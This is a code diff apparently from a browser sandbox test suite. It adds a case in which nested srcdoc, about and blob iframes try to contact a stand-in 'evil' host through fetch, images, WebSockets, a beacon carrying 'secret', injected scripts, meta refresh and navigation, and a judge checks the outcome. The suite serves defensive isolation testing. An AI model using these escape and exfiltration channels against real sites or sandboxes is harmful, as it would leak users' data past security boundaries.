@@ -24,6 +24,49 @@ const code = (evil: string, name: string): string => `
 export const attack: Attack = {
   id: '5',
   group: 'escape',
+  atOrigin: {
+    because:
+      'a nested document shares the site’s origin, so it is reached directly; an inline script does not run in it',
+    expected: '0 hits: a fresh realm of the same origin is held by the same rules',
+    async guest({ evil, pause }): Promise<JsonValue> {
+      const at = (how: string): string => `${evil}/5/origin-${how}`;
+      const tried: string[] = [];
+      for (const name of ['srcdoc', 'about', 'blob']) {
+        const frame = document.createElement('iframe');
+        if (name === 'srcdoc') frame.srcdoc = `<p>x<script>${code(evil, name)}</script>`;
+        if (name === 'blob') frame.src = URL.createObjectURL(new Blob(['<p>x'], { type: 'text/html' }));
+        frame.setAttribute('csp', 'default-src *');
+        document.body.append(frame);
+        await pause(300);
+        try {
+          const realm = frame.contentWindow as (Window & typeof globalThis) | null;
+          if (!realm) continue;
+          void realm.fetch(at(`${name}-fetch`), { mode: 'no-cors' }).catch(() => 0);
+          new realm.Image().src = at(`${name}-image`);
+          new realm.WebSocket(at(`${name}-socket`).replace('http', 'ws'));
+          realm.navigator.sendBeacon(at(`${name}-beacon`), 'secret');
+          realm.document.body.append(
+            Object.assign(realm.document.createElement('script'), { src: at(`${name}-script`) }),
+          );
+          realm.document.head.append(
+            Object.assign(realm.document.createElement('meta'), {
+              httpEquiv: 'refresh',
+              content: `0;url=${at('refresh')}`,
+            }),
+          );
+          tried.push(name);
+          realm.location.href = at(`${name}-navigate`);
+        } catch (error) {
+          tried.push(`${name} ${error instanceof Error || error instanceof DOMException ? error.name : 'threw'}`);
+        }
+      }
+      await pause(700);
+      return tried;
+    },
+    judge({ report }) {
+      holds(Array.isArray(report) && report.length > 0, `no nested realm was had: ${JSON.stringify(report)}`);
+    },
+  },
   title: 'run code in nested srcdoc, blob and data documents, which have functions and a sandbox of their own',
   expected: 'a nested document is held by the same rules: no storage, no port, no way out',
   heardOnAnOrdinaryPage: true,
